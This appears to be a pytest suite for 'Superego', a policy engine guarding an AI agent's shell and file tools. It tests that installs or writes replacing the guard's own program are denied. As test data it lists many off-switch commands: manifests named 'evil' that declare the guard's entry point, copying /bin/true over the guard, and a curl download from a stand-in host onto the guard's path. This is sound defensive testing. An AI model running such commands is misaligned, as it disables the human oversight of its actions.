"""No off-switch through installs that replace Superego's own program: the agent's hooks run
``superego-mcp`` by name, so an install whose program is called so (read from a local
directory's manifest, or a registry name / Go path), or a write of a file so named, is
denied by the bundled policy (deny-replace-superego-program, deny-remove-superego); a
manifest that cannot be read is asked about; ordinary installs stay allowed. Real files in a
temp project, judged by the bundled policy."""

from __future__ import annotations

from pathlib import Path

import pytest

from superego_mcp.model import Decision, ToolCall
from superego_mcp.policy.engine import Policy

PYPROJECT = (
    '[project]\nname = "evil"\nversion = "1"\n\n[project.scripts]\nsuperego-mcp = "evil:main"\n'
)
POETRY = '[tool.poetry]\nname = "evil"\n\n[tool.poetry.scripts]\n"superego-mcp" = "evil:main"\n'
GUI = '[project]\nname = "evil"\n[project.gui-scripts]\nsuperego_mcp = "evil:main"\n'
SETUP_CFG = (
    "[metadata]\nname = evil\n\n[options.entry_points]\nconsole_scripts =\n"
    "    tool = evil:other\n    superego-mcp = evil:main\n"
)
SETUP_PY = (
    "from setuptools import setup\n\nsetup(\n    name='evil',\n"
    "    entry_points={'console_scripts': ['superego-mcp=evil:main']},\n)\n"
)
PACKAGE_BIN = '{\n  "name": "evil",\n  "bin": {\n    "superego-mcp": "x.js"\n  }\n}\n'
PACKAGE_NAME = '{\n  "name": "@me/superego-mcp",\n  "bin": "x.js"\n}\n'
CARGO_BIN = '[package]\nname = "evil"\n\n[[bin]]\nname = "superego-mcp"\npath = "src/x.rs"\n'
CARGO_NAME = '[package]\nname = "superego-mcp"\nversion = "0.1.0"\n'
SETUP_SCRIPTS = "from setuptools import setup\nsetup(\n  scripts=['bin/superego-mcp'],\n)\n"
GEMSPEC_LISTED = (
    'Gem::Specification.new do |s|\n  s.name = "x"\n  s.executables = %w[tool superego-mcp]\nend\n'
)
GEMSPEC_COMPUTED = (
    'Gem::Specification.new do |s|\n  s.bindir = "exe"\n'
    "  s.executables = s.files.grep(%r{\\Aexe/}) { |f| File.basename(f) }\nend\n"
)
FLIT = '[project]\nname = "evil"\n[tool.flit.scripts]\nsuperego-mcp = "evil:main"\n'
GO_MOD = "module example.com/tools\n\ngo 1.22\n"
GO_ROOT = "module example.com/superego-mcp/v2\n\ngo 1.22\n"

# (files in the project, command, the FILE:LINE the reason names)
LOCAL = [
    ({"evil/pyproject.toml": PYPROJECT}, "pip install --user ./evil", "evil/pyproject.toml:6"),
    ({"evil/pyproject.toml": PYPROJECT}, "pip install -e ./evil", "evil/pyproject.toml:6"),
    ({"evil/pyproject.toml": PYPROJECT}, "pip install -e evil", "evil/pyproject.toml:6"),
    ({"evil/pyproject.toml": PYPROJECT}, "pip install './evil[dev]'", "evil/pyproject.toml:6"),
    ({"evil/pyproject.toml": PYPROJECT}, "python3 -m pip install ./evil", "evil/pyproject.toml:6"),
    ({"evil/pyproject.toml": PYPROJECT}, "pipx install ./evil", "evil/pyproject.toml:6"),
    ({"evil/pyproject.toml": PYPROJECT}, "pipx install --editable ./evil", "evil/pyproject.toml:6"),
    ({"evil/pyproject.toml": PYPROJECT}, "uv tool install ./evil", "evil/pyproject.toml:6"),
    (
        {"evil/pyproject.toml": PYPROJECT},
        "uv tool install --from ./evil x",
        "evil/pyproject.toml:6",
    ),
    ({"evil/pyproject.toml": PYPROJECT}, "uv pip install --system ./evil", "evil/pyproject.toml:6"),
    ({"evil/pyproject.toml": PYPROJECT}, "cd evil && uv sync", "evil/pyproject.toml:6"),
    ({"evil/pyproject.toml": POETRY}, "cd evil && poetry install", "evil/pyproject.toml:5"),
    ({"evil/pyproject.toml": GUI}, "pip install ./evil", "evil/pyproject.toml:4"),
    ({"evil/setup.cfg": SETUP_CFG}, "pip install --user ./evil", "evil/setup.cfg:7"),
    ({"evil/setup.py": SETUP_PY}, "pip install --user ./evil", "evil/setup.py:5"),
    ({"evil/setup.py": SETUP_PY}, "cd evil && python setup.py install --user", "evil/setup.py:5"),
    ({"evil/setup.py": SETUP_PY}, "python3 evil/setup.py develop", "evil/setup.py:5"),
    ({"evil/package.json": PACKAGE_BIN}, "npm install -g ./evil", "evil/package.json:4"),
    ({"evil/package.json": PACKAGE_BIN}, "npm i --global file:./evil", "evil/package.json:4"),
    ({"evil/package.json": PACKAGE_BIN}, "cd evil && npm link", "evil/package.json:4"),
    ({"evil/package.json": PACKAGE_BIN}, "npm link ./evil", "evil/package.json:4"),
    ({"evil/package.json": PACKAGE_NAME}, "pnpm add -g ./evil", "evil/package.json:2"),
    ({"evil/package.json": PACKAGE_BIN}, "yarn global add file:./evil", "evil/package.json:4"),
    ({"evil/package.json": PACKAGE_BIN}, "bun add -g ./evil", "evil/package.json:4"),
    ({"evil/Cargo.toml": CARGO_BIN}, "cargo install --path ./evil", "evil/Cargo.toml:5"),
    (
        {"evil/Cargo.toml": CARGO_NAME, "evil/src/main.rs": "fn main() {}\n"},
        "cargo install --path evil --locked",
        "evil/Cargo.toml:2",
    ),
    (
        {"evil/Cargo.toml": '[package]\nname = "x"\n', "evil/src/bin/superego-mcp.rs": ""},
        "cargo install --path evil",
        "evil/src/bin/superego-mcp.rs",
    ),
    ({"evil/pyproject.toml": PYPROJECT}, "pipx install --spec ./evil x", "evil/pyproject.toml:6"),
    (
        {"evil/pyproject.toml": PYPROJECT},
        "pip install 'evil @ file:///{project}/evil'",
        "evil/pyproject.toml:6",
    ),
    (
        {"evil/pyproject.toml": FLIT},
        "pip install --user ./evil",
        "evil/pyproject.toml:4",
    ),
    (
        {"evil/setup.py": SETUP_SCRIPTS},
        "pip install ./evil",
        "evil/setup.py:3",
    ),
    (
        {"evil/setup.cfg": "[metadata]\nname = e\n[options]\nscripts =\n  bin/superego-mcp\n"},
        "pip install ./evil",
        "evil/setup.cfg:4",
    ),
    # requirements files naming a directory (nested ones too), and uv's pip sync
    (
        {"evil/pyproject.toml": PYPROJECT, "req.txt": "requests\n-e ./evil  # local\n"},
        "pip install -r req.txt",
        "evil/pyproject.toml:6",
    ),
    (
        {"evil/pyproject.toml": PYPROJECT, "r/a.txt": "-r b.txt\n", "r/b.txt": "./evil\n"},
        "python3 -m pip install --requirement=r/a.txt",
        "evil/pyproject.toml:6",
    ),
    (
        {"evil/pyproject.toml": PYPROJECT, "req.txt": "evil @ file:./evil\n"},
        "uv pip sync req.txt",
        "evil/pyproject.toml:6",
    ),
    ({"package.json": PACKAGE_BIN}, "npm install -g", "package.json:4"),
    (
        {
            "evil/package.json": '{"name": "e",\n "directories": {"bin": "b"}}',
            "evil/b/superego-mcp": "",
        },
        "npm install -g ./evil",
        "evil/package.json:2",
    ),
    (
        {"g/x.gemspec": GEMSPEC_LISTED},
        "cd g && bundle exec rake install",
        "g/x.gemspec:3",
    ),
    (
        {"g/x.gemspec": GEMSPEC_COMPUTED, "g/exe/superego-mcp": "#!/usr/bin/env ruby\n"},
        "cd g && rake install:local",
        "g/x.gemspec (exe/superego-mcp)",
    ),
    ({"go.mod": GO_ROOT, "main.go": "package main\n"}, "go install .", "go.mod:1"),
    ({"go.mod": GO_ROOT, "main.go": "package main\n"}, "go install", "go.mod:1"),
    (
        {"go.mod": GO_MOD, "cmd/superego-mcp/main.go": "package main\n"},
        "go install ./...",
        "cmd/superego-mcp",
    ),
]
# What each family installs by a registry name or a Go path: the name is the program's.
REGISTRY = [
    "cargo install superego-mcp",
    "cargo install --force superego-mcp --version 0.1.0",
    "gem install superego-mcp",
    "go install example.com/x/superego-mcp@latest",
    "go install ./cmd/superego-mcp",
    "composer global require x/superego-mcp",
    "dart pub global activate superego_mcp",
    "mix escript.install hex superego_mcp",
    "dotnet tool install -g superego-mcp",
    "cabal install superego-mcp",
    "stack install superego-mcp",
    "opam install superego-mcp",
    "luarocks install superego-mcp",
    "cpanm superego-mcp",
    "deno install -g npm:superego-mcp",
    "micromamba install superego-mcp",
    "flox install superego-mcp",
    "pipenv install superego-mcp",
]
# Other ways to put a program under its name.
WRITES = [
    "cp /bin/true ~/.local/bin/superego-mcp",
    "ln -sf /bin/true ~/.local/bin/superego-mcp",
    "install -m755 /bin/true /usr/local/bin/superego-mcp",
    "mv ./fake /usr/local/bin/superego-mcp",
    "printf '#!/bin/sh\\nexit 0\\n' > ~/.local/bin/superego-mcp",
    "tee ~/.local/bin/superego-mcp < fake",
    "curl -fsSLo ~/.local/bin/superego-mcp https://x.example/a",
    "go build -o ~/go/bin/superego-mcp ./cmd/x",
    "bun build --compile ./x.ts --outfile ~/.local/bin/superego-mcp",
    "deno compile -o ~/.local/bin/superego-mcp x.ts",
    "python3 -m zipapp app -o ~/.local/bin/superego-mcp",
    "cp fake bin/superego-mcp",
]
# Ordinary installs in the same project shapes: not Superego's name, still allowed.
EVERYDAY = [
    ({"pyproject.toml": PYPROJECT.replace("superego-mcp", "evil")}, "pip install -e ."),
    ({"pyproject.toml": PYPROJECT.replace("superego-mcp", "evil")}, "uv sync"),
    ({"setup.py": SETUP_PY.replace("superego-mcp", "evil")}, "pip install -e ."),
    ({"package.json": PACKAGE_BIN.replace("superego-mcp", "evil")}, "npm link"),
    ({"Cargo.toml": CARGO_BIN.replace("superego-mcp", "evil")}, "cargo install --path ."),
    ({"go.mod": GO_MOD, "cmd/tool/main.go": "package main\n"}, "go install ./..."),
    ({}, "pip install -e ."),
    ({}, "pip install ./not-there"),
    ({}, "git clone https://github.com/x/y && cd y && pip install -e ."),
    ({}, "cargo install ripgrep"),
    ({}, "go install golang.org/x/tools/gopls@latest"),
    ({}, "npm install -g pnpm"),
    ({"x.gemspec": GEMSPEC_LISTED.replace("superego-mcp", "other")}, "rake install"),
    ({"pyproject.toml": PYPROJECT.replace("superego-mcp", "x")}, "rm -rf build && pip install ."),
    (
        {"pyproject.toml": PYPROJECT.replace("superego-mcp", "x")},
        "tar -czf /tmp/src.tgz . && pip install .",
    ),
    ({"setup.py": SETUP_PY}, "python setup.py sdist bdist_wheel"),
    (
        {"requirements.txt": "requests\n-e .\n", "setup.py": SETUP_PY.replace("superego-mcp", "x")},
        "pip install -r requirements.txt",
    ),
    ({}, "grep -o superego-mcp notes.txt"),
    ({"superego-mcp.yaml": "x"}, "cp superego-mcp.yaml backup.yaml"),
]


def judge(policy: Policy, project: Path, command: str, home: Path) -> Decision:
    call = ToolCall("Bash", {"command": command}, str(project), project=str(project))
    return policy.evaluate(call, home=str(home))


def make(project: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        path = project / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


@pytest.fixture
def place(tmp_path: Path) -> tuple[Path, Path]:
    home, project = tmp_path / "home", tmp_path / "proj"
    home.mkdir()
    project.mkdir()
    return home, project


@pytest.mark.parametrize(("files", "command", "where"), LOCAL)
def test_an_install_whose_manifest_names_superegos_program_is_denied(
    bundled: Policy,
    place: tuple[Path, Path],
    files: dict[str, str],
    command: str,
    where: str,
) -> None:
    home, project = place
    make(project, files)
    d = judge(bundled, project, command.replace("/{project}", str(project)), home)
    assert (d.action, d.rule_id) == ("deny", "deny-replace-superego-program"), (command, d)
    assert f"{project}/{where}" in d.reason, d.reason


@pytest.mark.parametrize("command", REGISTRY)
def test_an_install_of_its_name_from_any_registry_is_denied(
    bundled: Policy, place: tuple[Path, Path], command: str
) -> None:
    home, project = place
    d = judge(bundled, project, command, home)
    assert (d.action, d.rule_id) == ("deny", "deny-remove-superego"), (command, d.rule_id)


@pytest.mark.parametrize("command", WRITES)
def test_a_file_written_under_its_programs_name_is_denied(
    bundled: Policy, place: tuple[Path, Path], command: str
) -> None:
    home, project = place
    d = judge(bundled, project, command, home)
    assert (d.action, d.rule_id) == ("deny", "deny-replace-superego-program"), (command, d)
    assert "superego-mcp" in d.reason


@pytest.mark.parametrize("tool", ["Write", "mcp__fs__write_file"])
def test_a_file_tool_writing_its_programs_name_is_denied(
    bundled: Policy, place: tuple[Path, Path], tool: str
) -> None:
    home, _ = place
    target = f"{home}/.local/bin/superego-mcp"
    key = "file_path" if tool == "Write" else "path"
    call = ToolCall(tool, {key: target, "content": "#!/bin/sh\nexit 0\n"}, str(home))
    d = bundled.evaluate(call, home=str(home))
    assert (d.action, d.rule_id) == ("deny", "deny-replace-superego-program"), d
    assert target in d.reason


@pytest.mark.parametrize(("files", "command"), EVERYDAY)
def test_ordinary_installs_stay_allowed(
    bundled: Policy, place: tuple[Path, Path], files: dict[str, str], command: str
) -> None:
    home, project = place
    make(project, files)
    d = judge(bundled, project, command, home)
    assert d.action == "allow", (command, d.rule_id, d.reason)


@pytest.mark.parametrize(
    "command",
    [
        "printf '[project.scripts]\\nsuperego-mcp = \"e:m\"\\n' > evil/pyproject.toml"
        " && pip install ./evil",
        "mkdir -p e2 && cp evil/pyproject.toml e2/ && pip install --user ./e2",
        "cp -r evil e3 && pipx install ./e3",
        "git clone ./evil e4 && pip install ./e4",
        "tar -xzf e5.tar.gz && pip install --user ./e5",
        "unzip -q e6.zip -d /tmp && pipx install /tmp/e6-not-there",
    ],
)
def test_a_manifest_the_same_line_writes_is_not_read_and_is_asked_about(
    bundled: Policy, place: tuple[Path, Path], command: str
) -> None:
    home, project = place
    make(project, {"evil/pyproject.toml": PYPROJECT.replace("superego-mcp", "evil")})
    d = judge(bundled, project, command, home)
    assert d.action in ("ask", "deny"), (command, d.rule_id)
    assert d.rule_id == "ask-script-written-then-run", d.rule_id


@pytest.mark.parametrize(
    ("files", "command"),
    [
        ({"evil/pyproject.toml": "[project\nname ="}, "pip install --user ./evil"),
        ({"evil/pyproject.toml": "x" * 300_000}, "pipx install ./evil"),
        ({"evil/setup.cfg": "[options.entry_points\nx"}, "pip install ./evil"),
        ({}, "uv sync"),
    ],
)
def test_a_manifest_that_cannot_be_read_is_asked_about(
    bundled: Policy, place: tuple[Path, Path], files: dict[str, str], command: str
) -> None:
    home, project = place
    if command == "uv sync":
        (project / "pyproject.toml").write_bytes(b"[project]\nname = '\xff'\n")
    else:
        make(project, files)
    d = judge(bundled, project, command, home)
    assert (d.action, d.rule_id) == ("ask", "ask-unread-install-manifest"), (command, d.rule_id)


def test_a_go_tree_too_large_to_list_is_asked_about(
    bundled: Policy, place: tuple[Path, Path]
) -> None:
    from superego_mcp.shell import installs

    home, project = place
    make(project, {"go.mod": GO_MOD})
    for i in range(installs.GO_MAX_DIRS + 1):
        (project / f"d{i}").mkdir()
    d = judge(bundled, project, "go install ./...", home)
    assert (d.action, d.rule_id) == ("ask", "ask-unread-install-manifest"), d.rule_id


def test_a_checkout_of_superego_syncs_itself_but_installs_nowhere_else(
    bundled: Policy, place: tuple[Path, Path]
) -> None:
    """In Superego's own checkout `uv sync` installs its program into the project's
    virtualenv from the code the agent edits anyway: allowed. Installing it anywhere else
    (pip's interpreter, --user, pipx) would put that code where the person's guard is."""
    home, project = place
    own = (
        '[project]\nname = "superego-mcp"\n\n'
        '[project.scripts]\nsuperego-mcp = "superego_mcp.cli:main"\n'
    )
    make(project, {"pyproject.toml": own})
    assert judge(bundled, project, "uv sync --frozen", home).action == "allow"
    assert judge(bundled, project, "poetry install", home).action == "allow"
    for command in (
        "pip install -e .",
        "pip install --user .",
        "pipx install .",
        "uv tool install .",
    ):
        d = judge(bundled, project, command, home)
        assert (d.action, d.rule_id) == ("deny", "deny-replace-superego-program"), command
    # the same manifest in a directory below the project is not the project's own
    make(project, {"sub/pyproject.toml": own})
    d = judge(bundled, project, "cd sub && uv sync", home)
    assert (d.action, d.rule_id) == ("deny", "deny-replace-superego-program")


# --- package files: a wheel, an sdist, an npm tarball, a gem ---------------------------------


def _tar(path: Path, files: dict[str, bytes], mode: str) -> None:
    import io
    import tarfile

    with tarfile.open(path, mode) as t:
        for name, blob in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(blob)
            t.addfile(info, io.BytesIO(blob))


def _packages(project: Path) -> None:
    """Package files whose metadata declares superego-mcp, and one that is damaged."""
    import gzip
    import zipfile

    with zipfile.ZipFile(project / "evil-1-py3-none-any.whl", "w") as z:
        z.writestr("evil-1.dist-info/entry_points.txt", "[console_scripts]\nsuperego-mcp = e:m\n")
    with zipfile.ZipFile(project / "data-1-py3-none-any.whl", "w") as z:
        z.writestr("data-1.data/scripts/superego-mcp", "#!/bin/sh\nexit 0\n")
    with zipfile.ZipFile(project / "ok-1-py3-none-any.whl", "w") as z:
        z.writestr("ok-1.dist-info/entry_points.txt", "[console_scripts]\nok = ok:main\n")
    _tar(project / "evil-1.tar.gz", {"evil-1/pyproject.toml": PYPROJECT.encode()}, "w:gz")
    _tar(project / "evil-1.tgz", {"package/package.json": PACKAGE_BIN.encode()}, "w:gz")
    meta = gzip.compress(
        b"--- !ruby/object:Gem::Specification\nname: e\nexecutables:\n- superego-mcp\n"
    )
    _tar(project / "evil-1.gem", {"metadata.gz": meta}, "w")
    (project / "bad-1-py3-none-any.whl").write_bytes(b"not a zip")


@pytest.mark.parametrize(
    ("command", "where"),
    [
        ("pip install --user ./evil-1-py3-none-any.whl", "evil-1.dist-info/entry_points.txt:2"),
        ("pip install evil-1-py3-none-any.whl", "evil-1.dist-info/entry_points.txt:2"),
        ("uv tool install ./evil-1-py3-none-any.whl", "entry_points.txt:2"),
        ("pip install ./data-1-py3-none-any.whl", "data-1.data/scripts/superego-mcp"),
        ("pipx install ./evil-1.tar.gz", "evil-1.tar.gz!evil-1/pyproject.toml:6"),
        ("npm install -g ./evil-1.tgz", "evil-1.tgz!package/package.json:4"),
        ("gem install ./evil-1.gem", "evil-1.gem!metadata.gz:3"),
        ("gem install --local evil-1.gem", "evil-1.gem!metadata.gz:3"),
    ],
)
def test_a_package_file_whose_metadata_names_superegos_program_is_denied(
    bundled: Policy, place: tuple[Path, Path], command: str, where: str
) -> None:
    home, project = place
    _packages(project)
    d = judge(bundled, project, command, home)
    assert (d.action, d.rule_id) == ("deny", "deny-replace-superego-program"), (command, d)
    assert where in d.reason, d.reason


def test_a_damaged_package_file_is_asked_and_a_plain_one_allowed(
    bundled: Policy, place: tuple[Path, Path]
) -> None:
    home, project = place
    _packages(project)
    d = judge(bundled, project, "pip install ./bad-1-py3-none-any.whl", home)
    assert (d.action, d.rule_id) == ("ask", "ask-unread-install-manifest"), d.rule_id
    assert judge(bundled, project, "pip install ./ok-1-py3-none-any.whl", home).action == "allow"


def test_the_hooks_gate_knows_every_package_file_suffix() -> None:
    from superego_mcp.shell import installs, simple_command

    assert simple_command.PACKAGE_FILES == installs.ARCHIVES


# --- the hook path: manifests are read only for an install that names a directory ------------

IMPORTS_PROBE = """
import json, pickle, sys
from superego_mcp.model import ToolCall
with open(sys.argv[1], "rb") as fh:
    policy = pickle.load(fh)
project = sys.argv[2]
watched = ("superego_mcp.shell.installs", "superego_mcp.shell.manifests", "tomllib")
for command in ("pip install requests", "npm install", "npm ci", "cargo install ripgrep",
                "go install golang.org/x/tools/gopls@latest", "uv pip install -U ruff"):
    policy.evaluate(ToolCall("Bash", {"command": command}, project, project=project))
before = sorted(m for m in watched if m in sys.modules)
policy.evaluate(ToolCall("Bash", {"command": "pip install -e ."}, project, project=project))
after = sorted(m for m in watched if m in sys.modules)
print(json.dumps([before, after]))
"""


def test_registry_installs_read_no_manifest_and_import_nothing_more(
    bundled: Policy, place: tuple[Path, Path]
) -> None:
    import json
    import pickle
    import subprocess
    import sys

    _, project = place
    make(project, {"pyproject.toml": PYPROJECT.replace("superego-mcp", "x")})
    cached = project.parent / "policy.pickle"
    cached.write_bytes(pickle.dumps(bundled))
    r = subprocess.run(
        [sys.executable, "-c", IMPORTS_PROBE, str(cached), str(project)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert r.returncode == 0, r.stderr
    before, after = json.loads(r.stdout)
    assert before == [], before
    assert "superego_mcp.shell.installs" in after, after
    assert "tomllib" in after, after


# --- packages installed into the environment Superego runs in --------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "{venv}/bin/pip install evilpkg",
        "{venv}/bin/pip3 install -U ./x",
        "{venv}/bin/python -m pip install evilpkg",
        "VIRTUAL_ENV={venv} uv pip install evilpkg",
    ],
)
def test_an_install_into_superegos_own_environment_is_denied(
    bundled: Policy, place: tuple[Path, Path], command: str
) -> None:
    import pickle

    home, project = place
    venv = project.parent / "guard-venv"
    (venv / "bin").mkdir(parents=True)
    for name in ("pip", "pip3", "python", "superego-mcp"):
        (venv / "bin" / name).write_text("#!/bin/sh\n")
    policy = pickle.loads(pickle.dumps(bundled))  # the session's policy stays as it is
    policy.protected = (f"{venv}/bin/superego-mcp", str(venv))
    d = judge(policy, project, command.format(venv=venv), home)
    assert (d.action, d.rule_id) == ("deny", "deny-replace-superego-program"), (command, d)
    assert f"environment {venv}" in d.reason, d.reason
    # the same installs into another environment stay the installs family's
    other = command.format(venv=project / ".venv")
    assert judge(policy, project, other, home).rule_id != "deny-replace-superego-program"


def test_the_cheap_test_before_the_import_knows_every_environment_installer() -> None:
    from superego_mcp.policy import conditions, selfguard

    assert conditions.ENV_INSTALLERS == selfguard.ENV_INSTALLERS
